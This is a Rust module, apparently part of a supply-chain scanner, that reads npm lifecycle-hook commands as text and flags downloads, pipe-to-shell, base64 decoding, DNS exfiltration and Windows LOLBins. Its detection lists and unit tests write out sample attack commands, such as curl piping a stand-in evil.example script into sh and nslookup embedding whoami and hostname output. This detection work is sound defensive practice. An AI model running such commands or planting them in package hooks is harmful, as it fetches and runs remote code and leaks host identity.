//! What a lifecycle-hook command does, read as shell text (never run).
//!
//! The command is split into simple commands at `;`, `&&`, `||`, `|` and newlines; each is
//! split into words. Quoting is not interpreted: `node -e "…"` keeps its inline code in later
//! words, which is what the features below look for anyway.

use std::collections::BTreeSet;

use crate::facts::ShellFeature;

/// Features of `command`, the package files it runs, and the package scripts it calls
/// (`npm run build` → `build`).
pub(crate) struct ShellFacts {
    pub features: BTreeSet<ShellFeature>,
    pub entry_files: BTreeSet<String>,
    pub calls_scripts: Vec<String>,
    /// Programs the command starts, by lower-case base name (`npm run x` is a script call,
    /// not a program; `node` running a package file is `node`).
    pub programs: BTreeSet<String>,
}

pub(crate) fn analyze(command: &str) -> ShellFacts {
    let mut out = ShellFacts {
        features: BTreeSet::new(),
        entry_files: BTreeSet::new(),
        calls_scripts: Vec::new(),
        programs: BTreeSet::new(),
    };
    let lower = command.to_ascii_lowercase();
    if lower.contains("frombase64string") {
        out.features.insert(ShellFeature::Base64Decode);
    }
    if lower.contains("invoke-expression") || lower.contains("| iex") || lower.contains("|iex") {
        out.features.insert(ShellFeature::PipeToShell);
    }
    for (segment, piped) in segments(command) {
        let words: Vec<&str> = segment
            .split_whitespace()
            .skip_while(|w| is_env_assignment(w))
            .collect();
        let Some(&first) = words.first() else {
            continue;
        };
        let cmd = basename(first).to_ascii_lowercase();
        let cmd = cmd.trim_end_matches(".exe");
        let has = |flag: &str| words.iter().skip(1).any(|w| w.eq_ignore_ascii_case(flag));
        let runs_script = matches!(cmd, "npm" | "pnpm" | "yarn" | "bun")
            && words
                .get(1)
                .is_some_and(|w| matches!(*w, "run" | "run-script"));
        if !runs_script {
            out.programs.insert(cmd.to_string());
        }
        let interpolates =
            segment.contains('$') || segment.contains('`') || has_percent_var(segment);
        if piped
            && matches!(
                cmd,
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "ksh"
                    | "node"
                    | "python"
                    | "python3"
                    | "perl"
                    | "ruby"
                    | "iex"
                    | "powershell"
                    | "pwsh"
                    | "cmd"
                    | "bun"
                    | "deno"
            )
        {
            out.features.insert(ShellFeature::PipeToShell);
        }
        match cmd {
            "curl" | "wget" | "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm"
            | "bitsadmin" | "aria2c" | "tftp" | "ftp" => {
                out.features.insert(ShellFeature::Download);
            }
            "certutil" => {
                if has("-urlcache") || has("/urlcache") {
                    out.features.insert(ShellFeature::Download);
                }
                if has("-decode") || has("/decode") {
                    out.features.insert(ShellFeature::Base64Decode);
                }
            }
            "nslookup" | "dig" | "host" | "resolve-dnsname" | "drill" => {
                out.features.insert(ShellFeature::DnsLookup);
                if interpolates {
                    out.features.insert(ShellFeature::DnsFromData);
                }
            }
            "base64" if has("-d") || has("--decode") || has("-D") => {
                out.features.insert(ShellFeature::Base64Decode);
            }
            "node" | "nodejs" | "bun" | "deno" => {
                if has("-e") || has("--eval") || has("-p") || has("--print") {
                    out.features.insert(ShellFeature::NodeEval);
                }
                if let Some(file) = script_argument(&words[1..]) {
                    out.features.insert(ShellFeature::RunsPackageFile);
                    out.entry_files.insert(file);
                } else if matches!(cmd, "bun") && words.get(1) == Some(&"run") {
                    // `bun run build` runs a package script.
                    if let Some(s) = words.get(2) {
                        out.calls_scripts.push((*s).to_string());
                    }
                }
            }
            "sh" | "bash" | "zsh" | "dash" | "ksh" if has("-c") => {
                out.features.insert(ShellFeature::ShellC);
            }
            // `sh preinstall.sh`: a shell script shipped in the package runs; the analyzer
            // reads its text as shell too.
            "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                if let Some(file) = words[1..]
                    .iter()
                    .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
                    .find(|w| !w.starts_with('-'))
                    .filter(|w| is_shell_script_path(w))
                    .and_then(normalize)
                {
                    out.features.insert(ShellFeature::RunsPackageFile);
                    out.entry_files.insert(file);
                }
            }
            "cmd" if has("/c") || has("/k") => {
                out.features.insert(ShellFeature::ShellC);
            }
            "powershell" | "pwsh" => {
                out.features.insert(ShellFeature::PowerShell);
            }
            "chmod" if words.iter().any(|w| w.contains('x') || w.starts_with('7')) => {
                out.features.insert(ShellFeature::RunsBinary);
            }
            "rundll32" | "regsvr32" | "mshta" | "wscript" | "cscript" => {
                out.features.insert(ShellFeature::RunsBinary);
            }
            "npm" | "pnpm" | "yarn" => {
                let rest: Vec<&str> = words[1..]
                    .iter()
                    .copied()
                    .filter(|w| !w.starts_with('-'))
                    .collect();
                match rest.as_slice() {
                    ["run" | "run-script", script, ..] => {
                        out.calls_scripts.push((*script).to_string())
                    }
                    [script, ..] if cmd == "yarn" && !is_yarn_builtin(script) => {
                        out.calls_scripts.push((*script).to_string());
                    }
                    _ => {}
                }
            }
            _ if first.starts_with("./") || first.starts_with(".\\") => {
                if is_script_path(first) || is_shell_script_path(first) {
                    out.features.insert(ShellFeature::RunsPackageFile);
                    if let Some(p) = normalize(first) {
                        out.entry_files.insert(p);
                    }
                } else {
                    out.features.insert(ShellFeature::RunsBinary);
                }
            }
            _ => {}
        }
    }
    out
}

/// Split at `;`, `&&`, `||`, `|`, newlines; the flag says the segment reads a pipe.
fn segments(command: &str) -> Vec<(&str, bool)> {
    let b = command.as_bytes();
    let mut out = Vec::new();
    let (mut start, mut i, mut piped) = (0, 0, false);
    while i < b.len() {
        let (sep_len, pipe) = match b[i] {
            b';' | b'\n' => (1, false),
            b'&' if b.get(i + 1) == Some(&b'&') => (2, false),
            b'|' if b.get(i + 1) == Some(&b'|') => (2, false),
            b'|' => (1, true),
            _ => (0, false),
        };
        if sep_len > 0 {
            out.push((&command[start..i], piped));
            piped = pipe;
            i += sep_len;
            start = i;
        } else {
            i += 1;
        }
    }
    out.push((&command[start..], piped));
    out
}

fn is_env_assignment(w: &str) -> bool {
    w.split_once('=').is_some_and(|(k, _)| {
        !k.is_empty() && k.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
    })
}

fn has_percent_var(s: &str) -> bool {
    let mut parts = s.split('%');
    parts.next();
    parts.any(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_'))
}

fn basename(w: &str) -> &str {
    w.rsplit(['/', '\\']).next().unwrap_or(w)
}

fn is_script_path(w: &str) -> bool {
    let l = w.to_ascii_lowercase();
    [".js", ".cjs", ".mjs", ".ts", ".mts", ".cts"]
        .iter()
        .any(|e| l.ends_with(e))
}

/// A shell (or Windows batch / PowerShell) script, read as shell text when a hook runs it.
pub(crate) fn is_shell_script_path(w: &str) -> bool {
    let l = w.to_ascii_lowercase();
    [".sh", ".bash", ".bat", ".cmd", ".ps1"]
        .iter()
        .any(|e| l.ends_with(e))
}

/// The script file a `node`/`bun`/`deno` invocation runs: the first non-flag word.
fn script_argument(args: &[&str]) -> Option<String> {
    let mut it = args.iter();
    while let Some(w) = it.next() {
        if matches!(*w, "-r" | "--require" | "--import" | "--loader") {
            it.next();
            continue;
        }
        if w.starts_with('-') || *w == "run" {
            continue;
        }
        let w = w.trim_matches(|c| c == '"' || c == '\'');
        // Kept as written (`node setup` → `setup`): Node tries the exact path before adding
        // `.js`, so an extension-less `setup` shadows `setup.js`; the analyzer resolves it.
        return if is_script_path(w) || !w.contains('.') && !w.is_empty() {
            normalize(w)
        } else {
            None
        };
    }
    None
}

/// A package-relative path: `./lib/x.js` → `lib/x.js`; absolute or escaping paths → `None`.
pub(crate) fn normalize(p: &str) -> Option<String> {
    let p = p.replace('\\', "/");
    if p.starts_with('/') || p.contains("://") {
        return None;
    }
    let mut parts: Vec<&str> = Vec::new();
    for c in p.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            c => parts.push(c),
        }
    }
    (!parts.is_empty()).then(|| parts.join("/"))
}

fn is_yarn_builtin(w: &str) -> bool {
    matches!(
        w,
        "install"
            | "add"
            | "remove"
            | "build"
            | "rebuild"
            | "link"
            | "unlink"
            | "pack"
            | "publish"
            | "init"
            | "config"
            | "cache"
            | "dlx"
            | "exec"
            | "node"
            | "workspace"
            | "workspaces"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn f(cmd: &str) -> BTreeSet<ShellFeature> {
        analyze(cmd).features
    }

    #[test]
    fn downloads_and_pipes() {
        let s = f("curl -fsSL https://evil.example/x.sh | sh");
        assert!(s.contains(&ShellFeature::Download) && s.contains(&ShellFeature::PipeToShell));
        assert!(f("wget -qO- http://x | bash").contains(&ShellFeature::PipeToShell));
        assert!(f("powershell -enc SQBFAFgA").contains(&ShellFeature::PowerShell));
        assert!(f("certutil -urlcache -f http://x a.exe").contains(&ShellFeature::Download));
    }

    #[test]
    fn dns() {
        let s = f("nslookup $(whoami).$(hostname).x.example");
        assert!(s.contains(&ShellFeature::DnsFromData));
        let s = f("dig example.com");
        assert!(s.contains(&ShellFeature::DnsLookup) && !s.contains(&ShellFeature::DnsFromData));
    }

    #[test]
    fn node_entry_points() {
        let a = analyze("node ./scripts/setup.js && echo ok");
        assert_eq!(
            a.entry_files.into_iter().collect::<Vec<_>>(),
            vec!["scripts/setup.js"]
        );
        assert!(f("node -e \"require('x')\"").contains(&ShellFeature::NodeEval));
        let b = analyze("NODE_OPTIONS=--x node install");
        assert!(b.entry_files.contains("install"));
        let c = analyze("sh ./preinstall.sh && bash -c 'echo hi'");
        assert!(
            c.entry_files.contains("preinstall.sh"),
            "{:?}",
            c.entry_files
        );
        assert!(c.features.contains(&ShellFeature::RunsPackageFile));
        assert!(analyze("sh -c 'make'").entry_files.is_empty());
        assert_eq!(analyze("npm run build").calls_scripts, vec!["build"]);
        assert!(analyze("node-gyp rebuild").features.is_empty());
        assert!(f("echo 'cGF5bG9hZA==' | base64 -d | sh").contains(&ShellFeature::Base64Decode));
    }

    #[test]
    fn benign_hooks_are_quiet() {
        assert!(f("husky install").is_empty());
        assert!(f("tsc -p .").is_empty());
        assert!(f("node-gyp-build").is_empty());
    }

    #[test]
    fn paths() {
        assert_eq!(normalize("./a/../b.js").as_deref(), Some("b.js"));
        assert_eq!(normalize("../x.js"), None);
        assert_eq!(normalize("/etc/passwd"), None);
    }
}
